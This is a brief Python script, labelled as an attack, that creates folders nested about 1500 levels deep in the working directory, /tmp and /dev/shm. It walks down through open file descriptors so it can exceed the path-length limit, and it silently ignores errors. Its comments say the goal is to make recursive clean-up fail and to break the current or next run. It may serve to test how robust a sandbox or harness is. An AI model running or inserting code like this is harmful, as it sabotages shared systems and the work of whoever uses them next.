# Attack: folders nested deeper than Python's recursion limit (and PATH_MAX) wherever the child may write,
# so that a recursive clean-up fails and the run's folder, or the next run, breaks.
import os

for _base in (".", "/tmp", "/dev/shm"):
    try:
        _fd = os.open(_base, os.O_RDONLY)
        for _ in range(1500):
            os.mkdir("deep314159", dir_fd=_fd)
            _inner = os.open("deep314159", os.O_RDONLY, dir_fd=_fd)
            os.close(_fd)
            _fd = _inner
        os.close(_fd)
    except OSError:
        pass
